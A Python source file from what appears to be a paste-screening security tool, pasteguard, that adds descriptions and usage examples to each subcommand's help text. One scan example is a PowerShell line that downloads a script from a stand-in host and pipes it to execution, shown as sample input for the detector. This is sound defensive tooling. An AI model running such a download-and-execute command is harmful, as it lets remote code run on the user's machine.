"""Every subcommand's --help says what it does and shows it used.

Commands that write their own description and examples keep them; the others get their short
help as the description and the examples below, so that no `--help` is a bare list of options.
"""

from __future__ import annotations

import argparse

EXAMPLES: dict[str, tuple[str, ...]] = {
    "run": ("pasteguard run", "pasteguard run --no-tray"),
    "viewer": ("pasteguard viewer", "pasteguard viewer --data-dir /srv/pasteguard"),
    "status": ("pasteguard status",),
    "pause": ("pasteguard pause --minutes 15", "pasteguard pause"),
    "resume": ("pasteguard resume",),
    "scan": (
        "pasteguard scan 'iwr https://x.example/a.ps1 | iex'",
        "pasteguard scan --clipboard",
        "pasteguard scan --jsonl pastes.jsonl --fail-on suspicious",
    ),
    "rules": ("pasteguard rules check", "pasteguard rules from-report report.json"),
    "rules check": ("pasteguard rules check", "pasteguard rules check my-rules/extra.yaml"),
    "rules from-report": ("pasteguard rules from-report report.json",),
    "rules keygen": ("pasteguard rules keygen keys/",),
    "rules sign": (
        "pasteguard rules sign my-rules/*.yaml --key keys/feed-signing.pem -o feed.bundle",
    ),
    "autostart": ("pasteguard autostart status", "pasteguard autostart enable"),
    "autostart enable": ("pasteguard autostart enable",),
    "autostart disable": ("pasteguard autostart disable",),
    "autostart status": ("pasteguard autostart status",),
    "drill": ("pasteguard drill run fake-captcha", "pasteguard drill results"),
    "drill run": ("pasteguard drill run fake-captcha",),
    "drill report": ("pasteguard drill report",),
    "drill results": ("pasteguard drill results", "pasteguard drill results --campaign q3"),
}


def subcommands(
    parser: argparse.ArgumentParser, path: tuple[str, ...] = ()
) -> list[tuple[str, argparse.ArgumentParser, str]]:
    """(name such as "rules check", its parser, its one-line help) for every subcommand."""
    found = []
    for action in parser._actions:  # argparse keeps subparsers only here
        if isinstance(action, argparse._SubParsersAction):
            helps = {a.dest: a.help or "" for a in action._choices_actions}
            for name, sub in action.choices.items():
                full = (*path, name)
                found.append((" ".join(full), sub, helps.get(name, "")))
                found += subcommands(sub, full)
    return found


def complete(parser: argparse.ArgumentParser) -> None:
    """Give each subcommand without them a description and examples."""
    for name, sub, summary in subcommands(parser):
        if not sub.description and summary:
            sub.description = summary[:1].upper() + summary[1:] + "."
        examples = EXAMPLES.get(name)
        if not sub.epilog and examples:
            sub.epilog = "examples:\n" + "\n".join(f"  {line}" for line in examples)
            sub.formatter_class = argparse.RawDescriptionHelpFormatter
